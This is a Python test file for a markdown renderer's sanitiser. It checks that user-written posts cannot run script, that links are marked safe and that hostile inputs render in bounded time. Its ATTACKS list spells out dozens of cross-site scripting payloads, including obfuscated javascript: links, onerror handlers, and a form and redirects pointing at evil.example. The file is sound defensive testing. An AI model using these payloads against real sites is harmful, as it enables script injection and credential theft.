"""Rendering: nothing that a learner writes can act on a reader."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.posts.support import TEXTS
from tracker.markdown import MAX_RENDERED, plain_line, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='position:fixed'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<!--><script>alert(1)</script>-->",
    "<div>\n<script>\nalert(1)\n</script>\n</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
    '[x](https://a.example/" onclick="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![" onerror="alert(1)](x.png)',
    "![<script>alert(1)</script>](x.png)",
    "![](<a/%3Cscript%3Ealert(1).png>)",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onclick=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "|a|\n|:-|\n|<img src=x onerror=alert(1)>|",
    "- [x] <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ config }}",
]
ALLOWED = """a blockquote br code del div em h3 h4 h5 h6 hr input label li ol p pre s span strong
table tbody td th thead tr ul"""


class Collector(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data):
        self.tags.append("comment")


def assert_harmless(html):
    found = Collector(html)
    assert set(found.tags) <= set(ALLOWED.split())
    for _, name, value in found.attributes:
        assert name in {"href", "title", "rel", "class", "start", "type", "checked", "disabled"}
        if name == "href":
            scheme = re.match(r"[\s\x00-\x20]*([a-z][a-z0-9+.-]*):", value, re.I)
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}
    links = found.tags.count("a")
    assert found.attributes.count(("a", "rel", "noopener nofollow ugc")) == links


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "> {}", "- {}", "text {} text", "**{}**"])
def test_attacks_do_nothing(attack, around):
    assert_harmless(render(around.format(attack) if "\n" not in attack else attack))


@given(st.one_of(TEXTS, st.lists(st.sampled_from([*ATTACKS, *"<>\"'[]()!`\n "])).map("".join)))
@settings(max_examples=300, deadline=None)
def test_nothing_that_is_written_can_act(text):
    assert_harmless(render(text))


def test_headings_start_at_h3_without_ids_or_gaps():
    html = render("# a\n\n## b\n\n###### c\n\n## d")
    assert html == "<h3>a</h3>\n<h4>b</h4>\n<h5>c</h5>\n<h4>d</h4>\n"
    assert render("### first") == "<h3>first</h3>\n"


def test_links_are_kept_and_marked():
    assert render("[a](https://a.example 'T')") == (
        '<p><a href="https://a.example" title="T" rel="noopener nofollow ugc">a</a></p>\n'
    )


@pytest.mark.parametrize(
    ("source", "label"),
    [
        ("![A & B](https://x.example/p.png)", "A &amp; B"),
        ("![](/img/%EA%B0%80.png?x=1)", "가.png"),
        ("![](https://[bad)", ""),
    ],
)
def test_images_become_labels(source, label):
    html = render(source)
    assert "<img" not in html
    assert label in html


def test_code_is_coloured_by_classes():
    assert '<span class="k">def</span>' in render("```python\ndef f(): ...\n```")
    assert render("```nosuch\n<b>\n```") == (
        '<div class="highlight"><pre><code>&lt;b&gt;\n</code></pre></div>\n'
    )


def test_tables_tasks_and_strikethrough():
    html = render("|a|\n|-:|\n|~~b~~|\n\n- [x] done\n- [ ] open\n")
    assert '<td class="text-end"><s>b</s></td>' in html
    assert html.count('type="checkbox"') == 2
    assert html.count('checked="checked"') == 1
    assert "style" not in html


@pytest.mark.parametrize(
    "source",
    [
        ">" * MAX_RENDERED,
        "[" * MAX_RENDERED,
        "![" * (MAX_RENDERED // 2),
        "*a_" * (MAX_RENDERED // 3),
        "".join("  " * (depth % 40) + "- a\n" for depth in range(5_000)),
        "```java\n" + "a " * 9_000 + "\n```",
        "a\n" * (1 << 20),
        "# a\n" * (1 << 19),
    ],
    ids=["quotes", "brackets", "images", "emphasis", "lists", "code", "2 MiB", "2 MiB headings"],
)
def test_hostile_texts_take_bounded_time(source):
    started = time.monotonic()
    assert_harmless(render(source))
    assert plain_line(source) is not None
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ("", ""),
        ("\n\n![](a.png)\n\nFirst **bold** [link](x)\nsecond", "First bold link"),
        ("# Title\n\ntext", "Title"),
        ("- `a`  b\n- c", "a b"),
        ("```\n\ncode\nmore\n```", "code"),
        ("a" * 200, "a" * 119 + "…"),
        ("x <b>y</b>", "x <b>y</b>"),
    ],
)
def test_the_first_readable_line(source, line):
    assert plain_line(source) == line


@given(TEXTS, st.integers(1, 50))
@settings(max_examples=150, deadline=None)
def test_a_plain_line_is_one_short_line(text, length):
    line = plain_line(text, length)
    assert len(line) <= length
    assert "\n" not in line
